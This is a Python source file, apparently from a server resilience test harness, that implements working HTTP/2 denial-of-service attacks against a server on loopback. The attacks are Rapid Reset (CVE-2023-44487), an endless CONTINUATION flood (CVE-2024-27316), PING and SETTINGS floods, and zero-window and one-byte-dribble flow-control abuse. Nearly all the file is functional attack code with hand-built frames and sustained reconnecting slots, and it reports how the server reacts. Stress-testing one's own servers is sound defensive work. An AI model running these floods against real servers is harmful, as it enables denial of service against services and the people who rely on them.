#!/usr/bin/env python3
"""HTTP/2 attacks of the abuse harness against one server speaking h2c (HTTP/2 with prior knowledge on the plaintext
port), on loopback: raw sockets, frames written by hand where speed matters or where the `h2` library (PyPI, 4.4.1,
installed by gatling/h2tools.sh) refuses the sequence, and the `h2` library where the attack is flow control done
legally but abusively.

  h2attack.py ATTACK PORT [CONNECTIONS [SECONDS]]   runs one attack alone (default 10 connections, 15 s) and prints
                                                   what it saw as JSON; gatling/abuse.sh runs them through abuse.py,
                                                   with legitimate clients beside them

| name              | every attacking connection, after the preface, SETTINGS and the ACK of the server's SETTINGS     |
|-------------------|--------------------------------------------------------------------------------------------------|
| h2-rapid-reset    | HEADERS (GET /benchmark/hello, END_STREAM) + RST_STREAM(CANCEL) on a new stream, in a loop as     |
|                   | fast as the socket takes them (CVE-2023-44487)                                                    |
| h2-continuation   | HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS forever: 16 KiB of      |
|                   | header fields each on even connections, empty ones on odd connections (CVE-2024-27316)           |
| h2-ping-flood     | PING frames as fast as the socket takes them (CVE-2019-9512)                                      |
| h2-settings-flood | empty SETTINGS frames as fast as the socket takes them (CVE-2019-9515)                            |
| h2-zero-window    | SETTINGS_INITIAL_WINDOW_SIZE=0, then GET /benchmark/stream?size=1048576 on as many streams as     |
|                   | the server allows (at most 100), never a WINDOW_UPDATE; a stream the server ends is replaced     |
| h2-data-dribble   | SETTINGS_INITIAL_WINDOW_SIZE=0, 10 x GET /benchmark/stream?size=1048576, each stream's window     |
|                   | opened one byte at a time, one more byte as each byte arrives (CVE-2019-9511)                    |

The floods (the first four) read what the server sends on even connections and never read on odd ones (a 4 KiB
receive buffer, so the server's answers to the flood back up at once: CVE-2019-9512/9515 are about that queue).
A connection is "ended by the server" when a GOAWAY arrives or the server closes or resets it; the attacker then
resets its side and opens a new one in the same slot, so the attack keeps `connections` slots busy until the
deadline. A non-reading connection finds the GOAWAY, if any, in what is left in its receive buffer once its writes
fail. Every socket is reset by the end of the attack.
"""

import asyncio
import json
import socket
import struct
import sys
import time
from collections import Counter

import abusenet
import abusereport

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x3, 0x4
CANCEL = 0x8
ERROR_CODES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
               0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
               0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xa: "CONNECT_ERROR", 0xb: "ENHANCE_YOUR_CALM",
               0xc: "INADEQUATE_SECURITY", 0xd: "HTTP_1_1_REQUIRED"}
BATCH_BYTES = 64 * 1024
STREAM_PATH = "/benchmark/stream?size=1048576"
MAX_STREAM_ID = (1 << 31) - 1


def error_name(code):
    return ERROR_CODES.get(code, f"0x{code:x}")


# ------------------------------------------------------------------ frames by hand
def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings_frame(settings=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in settings))


def literal(name_index, value):
    """HPACK literal header field without indexing, name from the static table (RFC 7541, 6.2.2): no dynamic table
    state, so one block can be sent on any stream of any connection."""
    data = value.encode("ascii")
    if len(data) >= 127:
        raise ValueError("literal values here stay below 127 bytes")
    return bytes([name_index, len(data)]) + data


def request_block(path):
    """GET http://127.0.0.1`path`: :method GET (static 2), :scheme http (static 6), :path, :authority."""
    return b"\x82\x86" + literal(4, path) + literal(1, "127.0.0.1")


def filler_fields(size):
    """Complete HPACK fields (literal without indexing, new name `x-filler`) filling about `size` bytes: every
    CONTINUATION carries fields a streaming decoder can take in, so only a size limit stops it."""
    field = b"\x00\x08x-filler\x7e" + b"a" * 126
    return field * (size // len(field))


class FrameScanner:
    """Walks the frames the server sends (headers only, payloads skipped) and keeps what the report needs: counts
    by type, the first GOAWAY's error code, RST_STREAM codes, the server's SETTINGS."""

    def __init__(self):
        self._buffer = bytearray()
        self.counts = Counter()
        self.goaway = None
        self.resets = Counter()
        self.server_settings = None
        self.settings_acked = False

    def feed(self, data):
        self._buffer += data
        offset = 0
        buffer = self._buffer
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset:offset + 3], "big")
            if len(buffer) - offset < 9 + length:
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            self.counts[kind] += 1
            if kind == GOAWAY and self.goaway is None and length >= 8:
                self.goaway = error_name(int.from_bytes(buffer[offset + 13:offset + 17], "big"))
            elif kind == RST_STREAM and length == 4:
                self.resets[error_name(int.from_bytes(buffer[offset + 9:offset + 13], "big"))] += 1
            elif kind == SETTINGS and flags & ACK:
                self.settings_acked = True
            elif kind == SETTINGS and self.server_settings is None:
                payload = buffer[offset + 9:offset + 9 + length]
                self.server_settings = dict(struct.iter_unpack(">HI", bytes(payload[:length - length % 6])))
            offset += 9 + length
        del self._buffer[:offset]


# ------------------------------------------------------------------ one attacking connection
class Connection:
    """One attacking connection: its socket, a scanner of what the server sent, and how it ended."""

    def __init__(self, sock, scanner):
        self.sock = sock
        self.scanner = scanner
        self.opened = asyncio.get_running_loop().time()
        self.ended = None  # "closed", "reset", ... once the server ended the connection
        self.frames_sent = 0
        self.streams = 0

    def fate(self):
        """The connection's outcome: "goaway:CODE" when the server sent a GOAWAY, otherwise how it ended, or "open"."""
        if self.scanner.goaway:
            return "goaway:" + self.scanner.goaway
        return self.ended or "open"


async def open_connection(port, source, settings=(), receive_buffer=None, timeout=10.0):
    """Connects, sends the preface and SETTINGS, reads until the server's SETTINGS and ACKs them."""
    loop = asyncio.get_running_loop()
    sock = await abusenet.connect(port, source, timeout, receive_buffer=receive_buffer)
    scanner = FrameScanner()
    try:
        await loop.sock_sendall(sock, PREFACE + settings_frame(settings))
        while scanner.server_settings is None:
            data = await asyncio.wait_for(loop.sock_recv(sock, 65536), timeout)
            if not data:
                raise ConnectionResetError("closed before the server's SETTINGS")
            scanner.feed(data)
        await loop.sock_sendall(sock, frame(SETTINGS, ACK, 0))
    except BaseException:
        abusenet.abort(sock)
        raise
    return Connection(sock, scanner)


async def read_until_closed(conn, until):
    """Reads and scans what the server sends until it ends the connection (sets conn.ended) or `until` passes."""
    loop = asyncio.get_running_loop()
    while conn.ended is None and conn.scanner.goaway is None:
        left = until - loop.time()
        if left <= 0:
            return
        try:
            data = await asyncio.wait_for(loop.sock_recv(conn.sock, 1 << 20), left)
        except asyncio.TimeoutError:
            return
        except OSError as error:
            conn.ended = abusenet.failure_kind(error)
            return
        if not data:
            conn.ended = "closed"
            return
        conn.scanner.feed(data)


def drain_left_over(conn, limit=32 << 20):
    """After a failed write on a connection that never read: what the server sent before it ended the connection is
    still in the receive buffer (Linux hands it out before the reset), GOAWAY last."""
    taken = 0
    while taken < limit:
        try:
            data = conn.sock.recv(1 << 20, socket.MSG_DONTWAIT)
        except OSError:
            return
        if not data:
            return
        taken += len(data)
        conn.scanner.feed(data)


async def flood_connection(conn, next_batch, deadline, reading):
    """Sends batches (bytes, frames, new streams) from `next_batch(conn)` until the server ends the connection or the deadline passes. A
    reading connection scans what comes back as it comes; a non-reading one only once its writes fail."""
    loop = asyncio.get_running_loop()
    reader = loop.create_task(read_until_closed(conn, deadline)) if reading else None
    try:
        while loop.time() < deadline and conn.ended is None and conn.scanner.goaway is None:
            batch = next_batch(conn)
            if batch is None:
                break
            data, frames, streams = batch
            try:
                await asyncio.wait_for(loop.sock_sendall(conn.sock, data), max(0.001, deadline - loop.time()))
            except asyncio.TimeoutError:
                break  # the server stopped reading: the connection is held, not ended
            except OSError as error:
                conn.ended = conn.ended or abusenet.failure_kind(error)
                break
            # Counted once the kernel took them: written, not necessarily read by the server.
            conn.frames_sent += frames
            conn.streams += streams
    finally:
        if reader:
            reader.cancel()
            try:
                await reader
            except asyncio.CancelledError:
                pass  # cancelled just above: the deadline or the end of the connection
    if not reading and conn.ended:
        drain_left_over(conn)


# ------------------------------------------------------------------ slots: `connections` kept busy until the deadline
async def sustained(port, connections, seconds, sources, attack_one, settings=(), reading=lambda index: True):
    """Runs `attack_one(conn, index, deadline)` on `connections` slots, each reconnecting as soon as the server ends
    its connection, until `seconds` pass. A slot that does not read (`reading(index)` false) has a 4 KiB receive
    buffer. Returns the summary of every connection."""
    loop = asyncio.get_running_loop()
    started = loop.time()
    deadline = started + seconds
    ramp = min(2.0, seconds / 10)
    records = []
    live = set()

    async def slot(index):
        await asyncio.sleep(ramp * index / connections)
        receive_buffer = None if reading(index) else 4096
        while loop.time() < deadline - 0.5:
            try:
                conn = await open_connection(port, sources.next(), settings, receive_buffer,
                                             min(10.0, deadline - loop.time()))
            except (OSError, asyncio.TimeoutError) as error:
                records.append(("connect-" + abusenet.failure_kind(error), 0.0, 0, 0, 0))
                await asyncio.sleep(0.5)  # not a tight loop against a server that refuses connections
                continue
            live.add(conn.sock)
            try:
                await attack_one(conn, index, deadline)
            except (OSError, asyncio.TimeoutError) as error:
                conn.ended = conn.ended or abusenet.failure_kind(error)
            finally:
                live.discard(conn.sock)
                abusenet.abort(conn.sock)
            records.append((conn.fate(), loop.time() - conn.opened, conn.frames_sent, conn.streams,
                            conn.scanner.counts.get(DATA, 0)))
            if conn.fate() == "open":
                break

    try:
        await asyncio.gather(*(slot(i) for i in range(connections)))
    finally:
        for sock in list(live):
            abusenet.abort(sock)
    return summarise(records, loop.time() - started)


def summarise(records, seconds):
    """[(fate, seconds from connect, frames sent, streams opened, DATA frames received)] -> the attack's result."""
    ended = sorted(s for fate, s, *_ in records if fate != "open" and not fate.startswith("connect-"))
    frames = sum(r[2] for r in records)
    return {
        "connections": len(records),
        "fates": dict(Counter(r[0] for r in records)),
        "ended_by_server": len(ended),
        "ended_seconds_p50": abusereport.percentile(ended, 50),
        "ended_seconds_max": abusereport.percentile(ended, 100),
        "frames_sent": frames,
        "frames_per_second": round(frames / max(0.001, seconds)),
        "streams_opened": sum(r[3] for r in records),
        "data_frames_received": sum(r[4] for r in records),
        "seconds": round(seconds, 1),
    }


# ------------------------------------------------------------------ the floods
def rapid_reset_batch(conn):
    block = request_block("/benchmark/hello")
    first = 2 * conn.streams + 1
    count = min(BATCH_BYTES // (len(block) + 22), (MAX_STREAM_ID - first) // 2)
    if count <= 0:
        return None
    parts = []
    for stream in range(first, first + 2 * count, 2):
        parts.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
        parts.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
    return b"".join(parts), 2 * count, count


def repeated_batch(one):
    count = BATCH_BYTES // len(one)
    batch = (one * count, count, 0)
    return lambda conn: batch


def even(index):
    return index % 2 == 0


async def flood(port, connections, seconds, sources, next_batch):
    async def attack_one(conn, index, deadline):
        await flood_connection(conn, next_batch, deadline, reading=even(index))
    return await sustained(port, connections, seconds, sources, attack_one, reading=even)


async def rapid_reset(port, connections, seconds, sources):
    return await flood(port, connections, seconds, sources, rapid_reset_batch)


async def ping_flood(port, connections, seconds, sources):
    return await flood(port, connections, seconds, sources, repeated_batch(frame(PING, 0, 0, b"abusepng")))


async def settings_flood(port, connections, seconds, sources):
    return await flood(port, connections, seconds, sources, repeated_batch(settings_frame()))


async def continuation(port, connections, seconds, sources):
    """Slots alternate full and empty CONTINUATION frames; of each kind, half the slots read (index % 4 < 2)."""
    full_batch = repeated_batch(frame(CONTINUATION, 0, 1, filler_fields(16384 - 64)))
    empty_batch = repeated_batch(frame(CONTINUATION, 0, 1))
    opening = frame(HEADERS, END_STREAM, 1, request_block("/benchmark/hello"))

    def reading(index):
        return index % 4 < 2

    async def attack_one(conn, index, deadline):
        # GET on stream 1 with its header block left open: everything after belongs to that block.
        await asyncio.get_running_loop().sock_sendall(conn.sock, opening)
        conn.streams, conn.frames_sent = 1, 1
        await flood_connection(conn, empty_batch if index % 2 else full_batch, deadline, reading(index))
    return await sustained(port, connections, seconds, sources, attack_one, reading=reading)


# ------------------------------------------------------------------ flow control: zero window and dribble (h2)
async def flow_control_attack(port, connections, seconds, sources, streams, dribble):
    """GET /benchmark/stream?size=1048576 on `streams` streams per connection (at most the server's limit) with a
    zero initial window. Without `dribble` the window never opens; with it each stream is granted one byte, and one
    more each time a byte arrives. A stream the server ends (RST_STREAM, or a whole response) is replaced."""
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    import h2.settings

    loop = asyncio.get_running_loop()
    stream_fates = []
    headers = [(":method", "GET"), (":scheme", "http"), (":path", STREAM_PATH), (":authority", "127.0.0.1")]

    async def attack_one(conn, index, deadline):
        # The hand-made handshake is done; h2 takes over from a fresh state that already counts it as done.
        h2conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        h2conn.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0, h2.settings.SettingCodes.ENABLE_PUSH: 0})
        h2conn.initiate_connection()
        h2conn.clear_outbound_data_buffer()  # the preface went out by hand: only the state change is wanted
        h2conn.local_settings.acknowledge()
        h2conn.remote_settings.update(conn.scanner.server_settings)
        h2conn.remote_settings.acknowledge()
        h2conn.increment_flow_control_window(1 << 30)  # the connection's window is wide open: streams are the point
        limit = min(streams, conn.scanner.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, streams))
        opened = {}

        def open_stream():
            stream = h2conn.get_next_available_stream_id()
            h2conn.send_headers(stream, headers, end_stream=True)
            opened[stream] = loop.time()
            conn.streams += 1
            conn.frames_sent += 1
            if dribble:
                grant(stream)

        def grant(stream):
            try:
                h2conn.increment_flow_control_window(1, stream)
                conn.frames_sent += 1
            except h2.exceptions.ProtocolError:
                pass  # the stream or the connection (a GOAWAY) ended in the same read: nothing left to open

        def stream_over(stream, outcome):
            if stream in opened:
                stream_fates.append((outcome, loop.time() - opened.pop(stream)))

        for _ in range(limit):
            open_stream()
        await loop.sock_sendall(conn.sock, h2conn.data_to_send())
        while conn.ended is None and conn.scanner.goaway is None:
            left = deadline - loop.time()
            if left <= 0:
                break
            try:
                data = await asyncio.wait_for(loop.sock_recv(conn.sock, 65536), left)
            except asyncio.TimeoutError:
                break
            if not data:
                conn.ended = "closed"
                break
            conn.scanner.feed(data)
            try:
                events = h2conn.receive_data(data)
            except h2.exceptions.ProtocolError as error:
                conn.ended = "client-" + type(error).__name__
                break
            for event in events:
                if isinstance(event, h2.events.DataReceived) and dribble and event.stream_id in opened \
                        and event.flow_controlled_length:
                    grant(event.stream_id)
                elif isinstance(event, h2.events.StreamReset):
                    stream_over(event.stream_id, "reset:" + error_name(int(event.error_code)))
                elif isinstance(event, h2.events.StreamEnded):
                    stream_over(event.stream_id, "completed")
            while len(opened) < limit and h2conn.state_machine.state != h2.connection.ConnectionState.CLOSED:
                open_stream()
            outgoing = h2conn.data_to_send()
            if outgoing:
                await loop.sock_sendall(conn.sock, outgoing)
        for stream in list(opened):
            stream_over(stream, "goaway" if conn.scanner.goaway else (conn.ended or "open"))

    result = await sustained(port, connections, seconds, sources, attack_one,
                             settings=[(SETTINGS_INITIAL_WINDOW_SIZE, 0)])
    ended = sorted(s for outcome, s in stream_fates if outcome not in ("open", "completed"))
    result["streams"] = {"outcomes": dict(Counter(outcome for outcome, _ in stream_fates)),
                         "ended_seconds_p50": abusereport.percentile(ended, 50),
                         "ended_seconds_max": abusereport.percentile(ended, 100)}
    return result


async def zero_window(port, connections, seconds, sources):
    return await flow_control_attack(port, connections, seconds, sources, streams=100, dribble=False)


async def data_dribble(port, connections, seconds, sources):
    return await flow_control_attack(port, connections, seconds, sources, streams=10, dribble=True)


# Name -> (coroutine(port, connections, seconds, sources), connections at scale 1).
ATTACKS = {
    "h2-rapid-reset": (rapid_reset, 200),
    "h2-continuation": (continuation, 200),
    "h2-ping-flood": (ping_flood, 200),
    "h2-settings-flood": (settings_flood, 200),
    "h2-zero-window": (zero_window, 100),
    "h2-data-dribble": (data_dribble, 100),
}


def main(argv):
    if not 2 <= len(argv) <= 4 or argv[0] not in ATTACKS:
        print(__doc__, file=sys.stderr)
        print("attacks: " + " ".join(ATTACKS), file=sys.stderr)
        return 2
    attack, _ = ATTACKS[argv[0]]
    connections = int(argv[2]) if len(argv) > 2 else 10
    seconds = float(argv[3]) if len(argv) > 3 else 15.0
    started = time.time()
    result = asyncio.run(attack(int(argv[1]), connections, seconds, abusenet.SourceAddresses(8)))
    result["wall_seconds"] = round(time.time() - started, 1)
    print(json.dumps(result, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
